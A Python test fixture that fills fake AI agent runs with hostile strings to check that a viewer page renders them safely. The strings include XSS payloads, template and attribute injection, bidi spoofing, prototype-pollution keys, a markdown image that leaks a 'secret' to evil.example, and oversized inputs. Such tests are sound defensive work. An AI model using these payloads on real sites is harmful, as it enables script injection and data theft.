"""Texts of the kind that attack a page, and a run that says them everywhere."""

import json
from typing import Any, Final

from msgspec.structs import replace

from calls.events import Gap
from calls.model import Body, Exchange
from store.ingest.batch_writer import BatchWriter
from store.query.runs import Runs
from tests.store.page.browser import PageServer
from tests.store.page.replays import store_report
from tests.store.page.seed import Agent, observed_effects, write
from tests.store.running_store import PROFILES
from tests.store.samples import NOON

TEXTS: Final = {
    "script": "<script>window.hacked = 1; alert('script')</script>",
    "image": "<img src=x onerror=\"window.hacked = 2; alert('image')\">",
    "svg": "<svg onload=alert('svg')><animate onbegin=alert('svg') attributeName=x dur=1s></svg>",
    "close": "</textarea></title></style></script>]]>--><script>alert('close')</script>",
    "link": "[click](javascript:alert('link')) ![image](http://evil.example/?q=secret)",
    "attribute": '" onfocus="alert(\'attribute\')" autofocus x="',
    "template": "${alert('template')} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
    "bidi": "user\u202e\u2066 gnp.exe \u2069\u2066 admin\u2069 \u202c",
    "invisible": "pay\u200b\u2060\ufeffpal \u00ad\u061c\U000e0041",
    "nul": "before\x00after \x1b[31mred\x1b[0m \x07",
    "surrogate": "\ud800 broken \udfff",
    "proto": "__proto__ constructor prototype toString",
    "zalgo": "z" + "\u0335\u0321\u0489" * 200 + "x" * 50_000,
}

MISSES: Final = ("replay-hostile-1", "replay-hostile-2")
"""The ids of replays in which each text is in a request that missed."""

LONG_LINE: Final = 5 << 20
MANY_TOOLS: Final = 10_000


def _tool_calls(count: int) -> list[dict[str, Any]]:
    return [
        {
            "id": f"call_{n}",
            "type": "function",
            "function": {"name": f"<b>tool{n % 7}</b>", "arguments": '{"__proto__": 1}'},
        }
        for n in range(count)
    ]


def hostile_exchanges(run: str) -> list[Exchange]:
    """A run of which every part is hostile: prompts, answers, names of tools, arguments, results and bytes."""
    agent = Agent(run, NOON, model="<script>alert('model')</script>", actor="<img src=x onerror=alert('actor')>")
    for name, text in TEXTS.items():
        agent.user(text)
        ids = agent.answer(text, [(f"<u>{name}</u>", {text: text, "__proto__": text})], streamed=name != "surrogate")
        agent.tool(ids[0], f"{name}?x=%3Cscript%3E", {"query": text}, {"__proto__": {"x": text}, "text": text})
    agent.fail(500, {"message": TEXTS["script"], "type": TEXTS["image"]})
    broken = agent.exchanges[1]
    assert broken.response is not None
    data = b'{"broken": "\xff\xfe\xc3\x28", "n": NaN, "deep": ' + b"[" * 500
    body = Body(data=data, size=len(data))
    agent.exchanges[1] = replace(broken, response=replace(broken.response, body=body))
    return agent.exchanges


def large_exchanges(run: str) -> list[Exchange]:
    """An answer of one line of 5 MB."""
    agent = Agent(run, NOON)
    agent.user("Say a lot.")
    agent.answer("<i>a</i>" * (LONG_LINE // 8), streamed=False)
    return agent.exchanges


def crowded_exchanges(run: str) -> list[Exchange]:
    """An answer with tens of thousands of tool calls."""
    agent = Agent(run, NOON)
    agent.user("Call everything.")
    agent.answer("x", streamed=False)
    one = agent.exchanges[0]
    assert one.response is not None
    answer = json.loads(one.response.body.data)
    answer["choices"][0]["message"] |= {"content": None, "tool_calls": _tool_calls(MANY_TOOLS)}
    data = json.dumps(answer).encode()
    return [replace(one, response=replace(one.response, body=Body(data=data, size=len(data))))]


async def record_hostile_runs(server: PageServer, project: str) -> dict[str, str]:
    """Record the runs, with hostile names and labels; return the id of one call of each, of a tool call whose answer is broken, and of a call that failed."""
    writer = BatchWriter(server.database, project=project, profile=PROFILES.digest, signal=server.running_store.signal)
    runs = Runs(server.database, project)
    made = {
        "hostile": hostile_exchanges("hostile"),
        "large": large_exchanges("large"),
        "crowded": crowded_exchanges("crowded"),
    }
    other = [replace(one, run="hostile-2") for one in hostile_exchanges("hostile-2")[:-3]]
    for name, exchanges in (made | {"hostile-2": other}).items():
        await write(writer, exchanges)
        await runs.patch(
            name,
            name=f"{name} {TEXTS['script']} {TEXTS['bidi']}",
            labels={TEXTS["image"]: TEXTS["svg"], "__proto__": "x"},
        )
    items = [
        {"kind": text[:900], "task": text[:900], "at": text[:900], "args": {"name": text}, "results": [text]}
        for name, text in TEXTS.items()
        if name != "surrogate"
    ]
    await writer.write_batch([], effects=[observed_effects("hostile", NOON, items)])
    await writer.write_batch([], [Gap("hostile", NOON, TEXTS["script"], None)])
    missed = [one for one in made["hostile"] if one.response is not None and one.response.status == 200]
    # A report has the details of its first ten misses.
    for name, part in zip(MISSES, (missed[:14], missed[14:]), strict=True):
        await store_report(server, name, part, lambda text: f"{text} {TEXTS['script']}", project)
    await server.running_store.followers.wait_until_caught_up()
    places = {"hostile-tool": made["hostile"][1].id, "hostile-failed": made["hostile"][-1].id}
    return {name: exchanges[0].id for name, exchanges in made.items()} | places
